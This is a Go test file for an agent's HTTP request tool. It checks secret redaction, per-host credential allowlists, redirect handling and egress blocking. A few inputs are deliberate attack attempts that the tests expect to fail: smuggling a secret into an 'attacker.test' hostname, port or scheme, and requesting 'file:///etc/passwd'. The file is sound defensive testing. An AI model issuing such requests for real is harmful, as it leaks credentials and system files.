@@ -0,0 +1,264 @@
+package tools
+
+import (
+	"context"
+	"encoding/json"
+	"io"
+	"net/http"
+	"net/http/httptest"
+	"reflect"
+	"strings"
+	"testing"
+
+	"github.com/sipeed/picoclaw/pkg/config"
+	"github.com/sipeed/picoclaw/pkg/egress"
+)
+
+const testToken = "s3cr3t-token"
+
+func newTestHTTPRequestTool(t *testing.T, hosts ...string) *HTTPRequestTool {
+	t.Helper()
+	tool, err := NewHTTPRequestTool(config.HTTPRequestConfig{
+		MaxResponseChars: 200,
+		Credentials: map[string]config.HTTPCredential{
+			"ha": {Value: testToken, Hosts: hosts},
+		},
+	}, "", egress.New(config.EgressConfig{BlockPrivateNetworks: true, AllowHosts: []string{"127.0.0.1", "localhost"}}))
+	if err != nil {
+		t.Fatal(err)
+	}
+	return tool
+}
+
+func TestHTTPRequestTool_PostJSONWithSecret(t *testing.T) {
+	var gotMethod, gotAuth, gotType, gotQuery string
+	var gotBody map[string]any
+	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		gotMethod, gotAuth, gotType = r.Method, r.Header.Get("Authorization"), r.Header.Get("Content-Type")
+		gotQuery = r.URL.Query().Get("area")
+		json.NewDecoder(r.Body).Decode(&gotBody)
+		w.Header().Set("Content-Type", "application/json")
+		// Echo the token back, as some APIs do in error messages.
+		w.Write([]byte(`{"state":"on","auth":"` + r.Header.Get("Authorization") + `"}`))
+	}))
+	defer server.Close()
+	tool := newTestHTTPRequestTool(t, "127.0.0.1")
+
+	result := tool.Execute(context.Background(), map[string]any{
+		"url":     server.URL + "/api/services/light/turn_on",
+		"method":  "post",
+		"headers": map[string]any{"Authorization": "Bearer {{secret:ha}}"},
+		"query":   map[string]any{"area": "kitchen"},
+		"json":    map[string]any{"entity_id": "light.kitchen", "brightness": 200.0},
+	})
+	if result.IsError {
+		t.Fatalf("Execute: %s", result.ForLLM)
+	}
+	if gotMethod != "POST" || gotAuth != "Bearer "+testToken || gotType != "application/json" || gotQuery != "kitchen" {
+		t.Errorf("request = %s %q %q %q", gotMethod, gotAuth, gotType, gotQuery)
+	}
+	if gotBody["entity_id"] != "light.kitchen" || gotBody["brightness"] != 200.0 {
+		t.Errorf("body = %v", gotBody)
+	}
+	if strings.Contains(result.ForLLM, testToken) {
+		t.Errorf("secret leaked to the model: %s", result.ForLLM)
+	}
+	if !strings.Contains(result.ForLLM, "200 OK") || !strings.Contains(result.ForLLM, "Bearer {{secret:ha}}") {
+		t.Errorf("ForLLM = %s", result.ForLLM)
+	}
+}
+
+func TestHTTPRequestTool_SecretHosts(t *testing.T) {
+	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		if r.URL.Path == "/redirect" {
+			http.Redirect(w, r, "http://localhost"+strings.TrimPrefix(r.Host, "127.0.0.1")+"/", http.StatusFound)
+			return
+		}
+		w.Write([]byte("ok"))
+	}))
+	defer server.Close()
+	ctx := context.Background()
+
+	tool := newTestHTTPRequestTool(t, "ha.example.com")
+	result := tool.Execute(ctx, map[string]any{"url": server.URL, "headers": map[string]any{"X-Key": "{{secret:ha}}"}})
+	if !result.IsError || !strings.Contains(result.ForLLM, `credential "ha" may not be sent to 127.0.0.1`) {
+		t.Errorf("secret sent to an unlisted host: %s", result.ForLLM)
+	}
+	result = tool.Execute(ctx, map[string]any{"url": server.URL, "body": "{{secret:missing}}"})
+	if !result.IsError || !strings.Contains(result.ForLLM, "unknown credential") {
+		t.Errorf("unknown credential: %s", result.ForLLM)
+	}
+
+	tool = newTestHTTPRequestTool(t, "127.0.0.1")
+	result = tool.Execute(ctx, map[string]any{
+		"url":     server.URL + "/redirect",
+		"headers": map[string]any{"X-Key": "{{secret:ha}}"},
+	})
+	if !result.IsError || !strings.Contains(result.ForLLM, "may not be sent to localhost") {
+		t.Errorf("redirect to an unlisted host: %s", result.ForLLM)
+	}
+	if result := tool.Execute(ctx, map[string]any{"url": server.URL + "/redirect"}); result.IsError {
+		t.Errorf("redirect without secrets: %s", result.ForLLM)
+	}
+}
+
+func TestHTTPRequestTool_SecretInHost(t *testing.T) {
+	tool := newTestHTTPRequestTool(t, "*.example.com")
+	for _, rawURL := range []string{
+		"https://{{secret:ha}}.attacker.test/",
+		"https://api.example.com:{{secret:ha}}/",
+		"{{secret:ha}}://api.example.com/",
+	} {
+		result := tool.Execute(context.Background(), map[string]any{"url": rawURL})
+		if !result.IsError || strings.Contains(result.ForLLM, testToken) {
+			t.Errorf("Execute(%q) = %s", rawURL, result.ForLLM)
+		}
+	}
+}
+
+func TestHTTPRequestTool_RedactsEncodedAndTruncatedSecrets(t *testing.T) {
+	const secret = "a&b<c>d"
+	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		if r.URL.Path == "/json" {
+			w.Header().Set("Content-Type", "application/json")
+			json.NewEncoder(w).Encode(map[string]string{"echo": r.Header.Get("X-Key")})
+			return
+		}
+		// Place the secret across the truncation point.
+		w.Write([]byte(strings.Repeat("y", 195) + r.Header.Get("X-Key") + strings.Repeat("z", 100)))
+	}))
+	defer server.Close()
+	tool, err := NewHTTPRequestTool(config.HTTPRequestConfig{
+		MaxResponseChars: 200,
+		Credentials: map[string]config.HTTPCredential{
+			"ha": {Value: secret, Hosts: []string{"127.0.0.1"}},
+		},
+	}, "", egress.New(config.EgressConfig{BlockPrivateNetworks: true, AllowHosts: []string{"127.0.0.1"}}))
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	for _, path := range []string{"/json", "/long"} {
+		result := tool.Execute(context.Background(), map[string]any{
+			"url":     server.URL + path,
+			"headers": map[string]any{"X-Key": "{{secret:ha}}"},
+		})
+		if result.IsError {
+			t.Fatalf("Execute(%s): %s", path, result.ForLLM)
+		}
+		for _, leak := range []string{"a&b", `a\u0026b`, "b<c", "yyyya"} {
+			if strings.Contains(result.ForLLM, leak) {
+				t.Errorf("Execute(%s) leaked %q: %s", path, leak, result.ForLLM)
+			}
+		}
+	}
+}
+
+func TestHTTPRequestTool_EgressPolicy(t *testing.T) {
+	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		w.Write([]byte("ok"))
+	}))
+	defer server.Close()
+	tool, err := NewHTTPRequestTool(config.HTTPRequestConfig{}, "",
+		egress.New(config.EgressConfig{BlockPrivateNetworks: true}))
+	if err != nil {
+		t.Fatal(err)
+	}
+	result := tool.Execute(context.Background(), map[string]any{"url": server.URL})
+	if !result.IsError || !strings.Contains(result.ForLLM, "egress policy") {
+		t.Errorf("expected loopback URL to be blocked, got: %s", result.ForLLM)
+	}
+}
+
+func TestHTTPRequestTool_Response(t *testing.T) {
+	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		switch r.URL.Path {
+		case "/form":
+			r.ParseForm()
+			w.Write([]byte(r.Header.Get("Content-Type") + " " + r.PostForm.Get("q")))
+		case "/raw":
+			data, _ := io.ReadAll(r.Body)
+			w.Write(data)
+		case "/long":
+			w.Write([]byte(strings.Repeat("y", 300)))
+		case "/binary":
+			w.Header().Set("Content-Type", "image/png")
+			w.Write([]byte("\x89PNG\r\n\x1a\n\x00\x00"))
+		default:
+			w.Header().Set("Content-Type", "application/json")
+			w.Header().Set("X-Request-Id", "abc")
+			w.WriteHeader(http.StatusNotFound)
+			w.Write([]byte(`{"items":[{"name":"a","id":1},{"name":"b","id":2}]}`))
+		}
+	}))
+	defer server.Close()
+	tool := newTestHTTPRequestTool(t, "127.0.0.1")
+	ctx := context.Background()
+
+	tests := []struct {
+		args map[string]any
+		want []string
+	}{
+		{map[string]any{"url": server.URL, "select": "$.items[*].name"},
+			[]string{"404 Not Found", "[\n  \"a\",\n  \"b\"\n]"}},
+		{map[string]any{"url": server.URL, "select": "items[-1].id"}, []string{"\n\n2"}},
+		{map[string]any{"url": server.URL, "include_headers": true}, []string{"X-Request-Id: abc", "\"name\": \"a\""}},
+		{map[string]any{"url": server.URL + "/form", "method": "POST", "form": map[string]any{"q": "x y"}},
+			[]string{"application/x-www-form-urlencoded x y"}},
+		{map[string]any{"url": server.URL + "/raw", "method": "PUT", "body": "token={{secret:ha}}"},
+			[]string{"token={{secret:ha}}"}},
+		{map[string]any{"url": server.URL + "/long"}, []string{"showing 200 of 300 characters"}},
+		{map[string]any{"url": server.URL + "/binary"}, []string{"[binary body: 10 bytes of image/png]"}},
+	}
+	for _, tt := range tests {
+		result := tool.Execute(ctx, tt.args)
+		if result.IsError {
+			t.Errorf("Execute(%v): %s", tt.args, result.ForLLM)
+			continue
+		}
+		for _, want := range tt.want {
+			if !strings.Contains(result.ForLLM, want) {
+				t.Errorf("Execute(%v) missing %q:\n%s", tt.args, want, result.ForLLM)
+			}
+		}
+	}
+
+	for _, args := range []map[string]any{
+		{"url": server.URL, "select": "$.items[5]"},
+		{"url": server.URL + "/long", "select": "a"},
+		{"url": server.URL, "json": map[string]any{}, "body": "x"},
+		{"url": server.URL, "method": "TRACE"},
+		{"url": "file:///etc/passwd"},
+	} {
+		if result := tool.Execute(ctx, args); !result.IsError {
+			t.Errorf("Execute(%v) should fail, got: %s", args, result.ForLLM)
+		}
+	}
+}
+
+func TestSelectJSON(t *testing.T) {
+	var doc any
+	json.Unmarshal([]byte(`{"data":{"a b":[1,2,3],"m":{"x":1,"y":2}}}`), &doc)
+	tests := []struct {
+		path string
+		want any
+	}{
+		{"$", doc},
+		{"$.data['a b'][1]", 2.0},
+		{`data["a b"][-1]`, 3.0},
+		{"$.data.m.*", []any{1.0, 2.0}},
+		{"$.data.*.x", []any{1.0}},
+		{"$.data.*.z", []any{}},
+	}
+	for _, tt := range tests {
+		got, err := selectJSON(doc, tt.path)
+		if err != nil || !reflect.DeepEqual(got, tt.want) {
+			t.Errorf("selectJSON(%q) = %v, %v; want %v", tt.path, got, err, tt.want)
+		}
+	}
+	for _, path := range []string{"$.data.missing", "$.data[0]", "$.data.m.z[*]", "$..x", "$.data[x]", "$.data['a b'"} {
+		if _, err := selectJSON(doc, path); err == nil {
+			t.Errorf("selectJSON(%q) should fail", path)
+		}
+	}
+}